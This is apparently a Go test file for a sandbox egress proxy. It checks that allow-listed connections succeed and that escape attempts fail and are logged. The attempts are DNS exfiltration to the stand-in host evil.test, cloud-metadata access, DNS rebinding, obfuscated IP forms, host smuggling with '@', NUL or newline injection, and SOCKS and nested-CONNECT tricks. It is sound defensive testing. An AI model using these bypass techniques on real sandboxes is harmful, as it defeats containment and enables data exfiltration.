package egress

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

func testContext() context.Context { return context.Background() }

// outside stands for the network: a resolver, and servers that say which address
// was dialled and then send back what they get.
type outside struct {
	t    *testing.T
	wg   sync.WaitGroup
	mu   sync.Mutex // guards all below
	asks map[string]int
}

// hosts are the names that outside knows. An answer after "|" is for the second
// question and those after it.
var hosts = map[string]string{
	"registry.example":  "93.184.216.34",
	"a.example.org":     "93.184.216.35",
	"b.a.example.org":   "2606:2800:220:1::36",
	"high.example":      "93.184.216.37",
	"x.wild.example":    "93.184.216.38",
	"db.internal":       "10.1.2.3",
	"private.example":   "10.1.2.3",
	"loopback.example":  "127.0.0.1",
	"zero.example":      "0.0.0.0",
	"cgnat.example":     "100.64.0.1",
	"metadata.example":  "169.254.169.254",
	"metadata.internal": "169.254.169.254",
	"mapped.example":    "::ffff:10.0.0.1",
	"ula.example":       "fd00::1",
	"linklocal.example": "fe80::1",
	"nat64.example":     "64:ff9b::a00:1",
	"sixtofour.example": "2002:a00:1::1",
	"multicast.example": "224.0.0.1",
	"azure.example":     "168.63.129.16",
	"own.example":       "93.184.220.1",
	"neighbour.example": "2606:2800:220:9::5",
	"mixed.example":     "10.0.0.1 93.184.216.39",
	"rebind.example":    "93.184.216.40|10.0.0.1",
	"evil.test":         "93.184.216.66",
}

func (o *outside) resolve(_ context.Context, name string) (found []netip.Addr, err error) {
	o.mu.Lock()
	defer o.mu.Unlock()
	answer, ok := hosts[name]
	if !ok {
		return nil, errors.New("no such host")
	}
	first, later, changes := strings.Cut(answer, "|")
	if o.asks[name]++; changes && o.asks[name] > 1 {
		first = later
	}
	for text := range strings.FieldsSeq(first) {
		found = append(found, netip.MustParseAddr(text))
	}
	return found, nil
}

func (o *outside) dial(_ context.Context, addr netip.AddrPort) (net.Conn, error) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	defer l.Close()
	near, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		return nil, err
	}
	far, err := l.Accept()
	if err != nil {
		near.Close()
		return nil, err
	}
	o.wg.Go(func() {
		defer far.Close()
		if _, err := fmt.Fprintf(far, "UP %s\n", addr); err == nil {
			_, _ = io.Copy(far, far)
		}
	})
	return near, nil
}

var testList = []string{
	"registry.example", "*.example.org:443", "high.example:8443", "*.wild.example:8080", "db.internal:5432 private",
	"private.example", "loopback.example", "zero.example", "cgnat.example", "metadata.example", "metadata.internal:80 private",
	"mapped.example", "ula.example", "linklocal.example", "nat64.example", "sixtofour.example", "multicast.example",
	"azure.example", "own.example", "neighbour.example", "mixed.example", "rebind.example", "gone.example", "192.168.7.7:5432", "127.0.0.1:7000", "[fd00::7]:443",
}

// newTestProxy is a proxy for testList whose outside is o.
func newTestProxy(t *testing.T, list []string, l limits) (*proxy, *outside) {
	t.Helper()
	rules, err := Parse(list)
	if err != nil {
		t.Fatal(err)
	}
	o := &outside{t: t, asks: map[string]int{}}
	p := newProxy(rules, newDenials(filepath.Join(privateDir(t), "denials")), l)
	p.resolve, p.dial = o.resolve, o.dial
	p.networks = func() ([]netip.Prefix, error) {
		return []netip.Prefix{netip.MustParsePrefix("93.184.220.1/32"), netip.MustParsePrefix("2606:2800:220:9::2/64")}, nil
	}
	t.Cleanup(o.wg.Wait)
	return p, o
}

// way is a way in or out. want is in the result. rule is in the log's line of it,
// "" if there is none with that target.
type way struct {
	name string
	attempt
	want         string
	target, rule string
}

const at = "127.0.0.1:1023"

// connectTo is a CONNECT request, and after its response a word for the server.
func connectTo(host string) attempt {
	return attempt{Do: "dial", At: at, Send: []byte("CONNECT " + host + " HTTP/1.1\r\nHost: " + host + "\r\n\r\nping")}
}

func getURL(uri, more string) attempt {
	return attempt{Do: "dial", At: at, Send: []byte("GET " + uri + " HTTP/1.1\r\n" + more + "\r\n")}
}

// socksTo is a SOCKS request for a name, and after it a word for the server.
func socksTo(host string, port uint16) attempt {
	return socks(socksConnect, socksName, string(append([]byte{byte(len(host))}, host...)), port)
}

func socks(command, kind byte, host string, port uint16) attempt {
	p := append([]byte{5, 1, 0, 5, command, 0, kind}, host...)
	return attempt{Do: "dial", At: at, Send: append(append(p, byte(port>>8), byte(port)), "ping"...)}
}

func dialTo(addr string) attempt { return attempt{Do: "dial", At: addr, Send: []byte("ping")} }
func lookUp(name string) attempt { return attempt{Do: "dns", At: name} }

const (
	notListed  = "no entry of the network list"
	deniedCode = "\x05\x00\x05\x02"
	grantCode  = "\x05\x00\x05\x00"
)

var waysIn = []way{
	{"DNS: a name of the list", lookUp("registry.example"), "127.96.0.1", "", ""},
	{"DNS: in capitals", lookUp("REGISTRY.Example"), "127.96.0.1", "", ""},
	{"DNS: below a star", lookUp("a.example.org"), "127.96.0.", "", ""},
	{"DNS: localhost", lookUp("localhost"), "127.0.0.1", "", ""},
	{"direct: by name", dialTo("registry.example:443"), "UP 93.184.216.34:443\nping", "", ""},
	{"direct: by name, port 80", dialTo("registry.example:80"), "UP 93.184.216.34:80\nping", "", ""},
	{"direct: a high port", dialTo("high.example:8443"), "UP 93.184.216.37:8443\nping", "", ""},
	{"direct: below a star, IPv6 outside", dialTo("b.a.example.org:443"), "UP [2606:2800:220:1::36]:443\nping", "", ""},
	{"direct: below a star, a high port", dialTo("x.wild.example:8080"), "UP 93.184.216.38:8080\nping", "", ""},
	{"direct: a private name that is allowed", dialTo("db.internal:5432"), "UP 10.1.2.3:5432\nping", "", ""},
	{"direct: a port of this machine", dialTo("127.0.0.1:7000"), "UP 127.0.0.1:7000\nping", "", ""},
	{"direct: public and private addresses", dialTo("mixed.example:443"), "UP 93.184.216.39:443\nping", "", ""},
	{"CONNECT", connectTo("registry.example:443"), "200 Connection established\r\n\r\nUP 93.184.216.34:443\nping", "", ""},
	{"CONNECT in capitals, a dot last", connectTo("REGISTRY.EXAMPLE.:443"), "UP 93.184.216.34:443\nping", "", ""},
	{"CONNECT to an address of the list", connectTo("192.168.7.7:5432"), "UP 192.168.7.7:5432\nping", "", ""},
	{"CONNECT to an IPv6 address of the list", connectTo("[FD00:0::7]:443"), "UP [fd00::7]:443\nping", "", ""},
	{"CONNECT to the address inside of a name", connectTo("127.96.0.1:443"), "UP 93.184.216.34:443\nping", "", ""},
	{"CONNECT within CONNECT is bytes for the server", attempt{Do: "dial", At: at,
		Send: []byte("CONNECT registry.example:443 HTTP/1.1\r\n\r\nCONNECT evil.test:443 HTTP/1.1\r\n\r\n")},
		"UP 93.184.216.34:443\nCONNECT evil.test:443 HTTP/1.1\r\n\r\n", "", ""},
	{"plain HTTP", getURL("http://registry.example/x", "Host: registry.example\r\n"), "UP 93.184.216.34:80\nGET /x HTTP/1.1\r\nHost: registry.example\r\nConnection: close\r\n\r\n", "", ""},
	{"plain HTTP with another Host header", getURL("http://registry.example/x", "Host: evil.test\r\n"), "UP 93.184.216.34:80\nGET /x HTTP/1.1\r\nHost: registry.example\r\n", "", ""},
	{"SOCKS by name", socksTo("registry.example", 443), grantCode + "\x00\x01\x00\x00\x00\x00\x00\x00UP 93.184.216.34:443\nping", "", ""},
	{"SOCKS to an address of the list", socks(1, socksIPv4, "\xc0\xa8\x07\x07", 5432), "UP 192.168.7.7:5432\nping", "", ""},
	{"SOCKS to IPv4 in IPv6", socks(1, socksIPv6, "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xff\xff\xc0\xa8\x07\x07", 5432), "UP 192.168.7.7:5432\nping", "", ""},
	{"SOCKS to the address inside of a name", socks(1, socksIPv4, "\x7f\x60\x00\x01", 443), "UP 93.184.216.34:443\nping", "", ""},
	{"its own server", attempt{Do: "listen", At: "127.0.0.1:0"}, "own", "", ""},
	{"its own server on a port of the list", attempt{Do: "listen", At: "127.0.0.1:8443"}, "own", "", ""},
	{"rebinding, first", dialTo("rebind.example:443"), "UP 93.184.216.40:443\nping", "", ""},
	{"the proxy's variable", attempt{Do: "env", At: "https_proxy"}, "http://127.0.0.1:1023", "", ""},
	{"the proxy's variable in capitals", attempt{Do: "env", At: "ALL_PROXY"}, "socks5h://127.0.0.1:1023", "", ""},
}

var waysOut = []way{
	{"DNS: another name", lookUp("evil.test"), "no such host", "evil.test", "has this name"},
	{"DNS: data in a name", lookUp("c2VjcmV0.evil.test"), "no such host", "c2VjcmV0.evil.test", "has this name"},
	{"DNS: above a star", lookUp("example.org"), "no such host", "example.org", "has this name"},
	{"DNS: a name that ends alike", lookUp("evilexample.org"), "no such host", "evilexample.org", "has this name"},
	{"direct: an address", dialTo("93.184.216.66:443"), "network is unreachable", "", ""},
	{"direct: an IPv6 address", dialTo("[2606:2800:220:1::66]:443"), "error: ", "", ""},
	{"direct: the metadata service", dialTo("169.254.169.254:80"), "network is unreachable", "", ""},
	{"direct: this machine", dialTo("HOST"), "connection refused", "", ""},
	{"direct: an abstract socket of this machine", dialTo("ABSTRACT"), "connection refused", "", ""},
	{"direct: another port of a name", dialTo("high.example:443"), "reset by peer", "high.example:443", notListed},
	{"direct: loopback, a port of the list", dialTo("127.0.0.1:443"), "reset by peer", "", ""},
	{"direct: a private address", dialTo("private.example:443"), "reset by peer", "private.example:443", `"private.example:443 private" would allow it`},
	{"direct: rebinding, then", dialTo("rebind.example:443"), "reset by peer", "rebind.example:443", "private address 10.0.0.1"},
	{"UDP: a name server", attempt{Do: "udp", At: "8.8.8.8:53"}, "network is unreachable", "", ""},
	{"UDP: multicast", attempt{Do: "udp", At: "224.0.0.251:5353"}, "network is unreachable", "", ""},
	{"a raw socket", attempt{Do: "raw"}, "operation not permitted", "", ""},
	{"CONNECT: another name", connectTo("evil.test:443"), "403 Forbidden", "evil.test:443", notListed},
	{"CONNECT: another port", connectTo("registry.example:22"), "403 Forbidden", "registry.example:22", notListed},
	{"CONNECT: a port that a star lacks", connectTo("a.example.org:80"), "403 Forbidden", "a.example.org:80", notListed},
	{"CONNECT: an address", connectTo("93.184.216.34:443"), "403 Forbidden", "93.184.216.34:443", notListed},
	{"CONNECT: this machine", connectTo("127.0.0.1:22"), "403 Forbidden", "127.0.0.1:22", notListed},
	{"CONNECT: IPv6 loopback", connectTo("[::1]:22"), "403 Forbidden", "[::1]:22", notListed},
	{"CONNECT: the proxy itself", connectTo("127.0.0.1:1023"), "403 Forbidden", "127.0.0.1:1023", notListed},
	{"CONNECT: localhost", connectTo("localhost:22"), "400 Bad Request", "CONNECT localhost:22 HTTP/1.1", "loopback"},
	{"CONNECT: a decimal address", connectTo("2130706433:443"), "400 Bad Request", "CONNECT 2130706433:443 HTTP/1.1", "ends with a number"},
	{"CONNECT: an octal address", connectTo("0177.0.0.1:443"), "400 Bad Request", "CONNECT 0177.0.0.1:443 HTTP/1.1", "ends with a number"},
	{"CONNECT: a hexadecimal address", connectTo("0x7f.1:443"), "400 Bad Request", "CONNECT 0x7f.1:443 HTTP/1.1", "ends with a number"},
	{"CONNECT: a user before the host", connectTo("registry.example:443@evil.test:443"), "400 Bad Request", "CONNECT registry.example:443@evil.test:443 HTTP/1.1", "no host name"},
	{"CONNECT: two dots last", connectTo("registry.example..:443"), "400 Bad Request", "CONNECT registry.example..:443 HTTP/1.1", "no host name"},
	{"CONNECT: no port", connectTo("registry.example"), "400 Bad Request", "CONNECT registry.example HTTP/1.1", "has no port"},
	{"CONNECT: a very long name", connectTo(strings.Repeat("a.", 200) + "example:443"), "400 Bad Request", "CONNECT a.a.a.", "1 to 253"},
	{"CONNECT: a NUL", connectTo("registry.example\x00.evil.test:443"), "400 Bad Request", "", ""},
	{"CONNECT: a zone", connectTo("[fe80::1%lo]:443"), "400 Bad Request", "CONNECT [fe80::1%lo]:443 HTTP/1.1", "no IPv6 address"},
	{"plain HTTP: another name", getURL("http://evil.test/", "Host: registry.example\r\n"), "403 Forbidden", "evil.test:80", notListed},
	{"plain HTTP: a user before the host", getURL("http://registry.example@evil.test/", ""), "400 Bad Request", "GET http://registry.example@evil.test/ HTTP/1.1", "no host name"},
	{"plain HTTP: for a server, not a proxy", getURL("/", "Host: evil.test\r\n"), "400 Bad Request", "GET / HTTP/1.1", "this is a proxy"},
	{"plain HTTP: ftp", getURL("ftp://registry.example/", ""), "400 Bad Request", "GET ftp://registry.example/ HTTP/1.1", "no http URL"},
	{"plain HTTP: huge headers", getURL("http://registry.example/", "A: "+strings.Repeat("x", maxHead)+"\r\n"), "", "", ""},
	{"SOCKS: another name", socksTo("evil.test", 443), deniedCode, "evil.test:443", notListed},
	{"SOCKS: a NUL in the name", socksTo("evil.test\x00.example.org", 443), deniedCode, "evil.test\x00.example.org", "not a valid host"},
	{"SOCKS: a line feed in the name", socksTo("evil.test\n.example.org", 443), deniedCode, "evil.test\n.example.org", "not a valid host"},
	{"SOCKS: an address as a name", socksTo("127.0.0.1", 22), deniedCode, "127.0.0.1:22", notListed},
	{"SOCKS: an address", socks(1, socksIPv4, "\x7f\x00\x00\x01", 22), deniedCode, "127.0.0.1:22", notListed},
	{"SOCKS: loopback in IPv6", socks(1, socksIPv6, strings.Repeat("\x00", 15)+"\x01", 22), deniedCode, "[::1]:22", notListed},
	{"SOCKS: BIND", socks(2, socksName, "\x10registry.example", 443), "\x05\x00\x05\x07", "", "only CONNECT"},
	{"SOCKS: UDP", socks(3, socksName, "\x10registry.example", 443), "\x05\x00\x05\x07", "", "only CONNECT"},
	{"SOCKS: a password alone", attempt{Do: "dial", At: at, Send: []byte{5, 1, 2}}, "\x05\xff", "", ""},
	{"SOCKS 4", attempt{Do: "dial", At: at, Send: []byte("\x04\x01\x01\xbb\x5d\xb8\xd8\x42\x00\r\n\r\n")}, "400 Bad Request", "", ""},
	{"a loopback address", connectTo("loopback.example:443"), "403 Forbidden", "loopback.example:443", "loopback address 127.0.0.1"},
	{"the unspecified address", connectTo("zero.example:443"), "403 Forbidden", "zero.example:443", "unspecified address"},
	{"carrier-grade NAT", connectTo("cgnat.example:443"), "403 Forbidden", "cgnat.example:443", "carrier-grade NAT address"},
	{"link-local", connectTo("metadata.example:80"), "403 Forbidden", "metadata.example:80", "link-local address"},
	{"link-local where private is allowed", connectTo("metadata.internal:80"), "403 Forbidden", "metadata.internal:80", "link-local address"},
	{"a cloud provider's", connectTo("azure.example:443"), "403 Forbidden", "azure.example:443", "cloud provider's address"},
	{"this machine by its public address", connectTo("own.example:443"), "403 Forbidden", "own.example:443", "local network's address 93.184.220.1"},
	{"a neighbour by its public address", connectTo("neighbour.example:443"), "403 Forbidden", "neighbour.example:443", "local network's address 2606"},
	{"private in IPv6", connectTo("mapped.example:443"), "403 Forbidden", "mapped.example:443", "private address 10.0.0.1"},
	{"a unique local address", connectTo("ula.example:443"), "403 Forbidden", "ula.example:443", "private address fd00::1"},
	{"link-local of IPv6", connectTo("linklocal.example:443"), "403 Forbidden", "linklocal.example:443", "link-local address"},
	{"NAT64", connectTo("nat64.example:443"), "403 Forbidden", "nat64.example:443", "NAT64 address"},
	{"6to4", connectTo("sixtofour.example:443"), "403 Forbidden", "sixtofour.example:443", "6to4 address"},
	{"multicast", connectTo("multicast.example:443"), "403 Forbidden", "multicast.example:443", "multicast address"},
	{"a name that does not exist", connectTo("gone.example:443"), "502 Bad Gateway", "", ""},
	{"a low port of its own", attempt{Do: "listen", At: "127.0.0.1:444"}, "permission denied", "", ""},
	{"a port of a star as its own", attempt{Do: "listen", At: "127.0.0.1:8080"}, "address already in use", "", ""},
	{"descriptors of ours", attempt{Do: "fds"}, "[]", "", ""},
	{"capabilities", attempt{Do: "caps"}, "CapInh: 0000000000000000; CapPrm: 0000000000000000; CapEff: 0000000000000000; CapBnd: 0000000000000000; CapAmb: 0000000000000000; NoNewPrivs: 1", "", ""},
}

// A program inside gets where the list lets it, by every way that programs know, and
// nowhere else. What was denied is in the log, with the rule.
func TestWays(t *testing.T) {
	p, _ := newTestProxy(t, testList, usual)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	abstract, err := net.Listen("unix", "@"+t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer abstract.Close()
	ways := append(append([]way{}, waysIn...), waysOut...)
	var list []attempt
	for _, w := range ways {
		w.At = strings.NewReplacer("HOST", l.Addr().String(), "ABSTRACT", abstract.Addr().String()).Replace(w.At)
		list = append(list, w.attempt)
	}
	results := tryInside(t, p, list)
	denied, err := ReadDenials(p.log.path, 1000)
	if err != nil {
		t.Fatal(err)
	}
	for i, w := range ways {
		t.Run(w.name, func(t *testing.T) {
			got := string(results[i])
			if !strings.Contains(got, w.want) {
				t.Errorf("result %q, want %q", got, w.want)
			}
			if out := i >= len(waysIn); out && strings.Contains(got, "UP ") {
				t.Errorf("it got out: %q", got)
			}
			if w.rule != "" && !logged(denied, w) {
				t.Errorf("no denial of %q by %q in %+v", w.target, w.rule, denied)
			}
		})
	}
}

func logged(denied []Denial, w way) bool {
	for _, d := range denied {
		if strings.HasPrefix(d.Target, w.target) && strings.Contains(d.Rule, w.rule) {
			return true
		}
	}
	return false
}
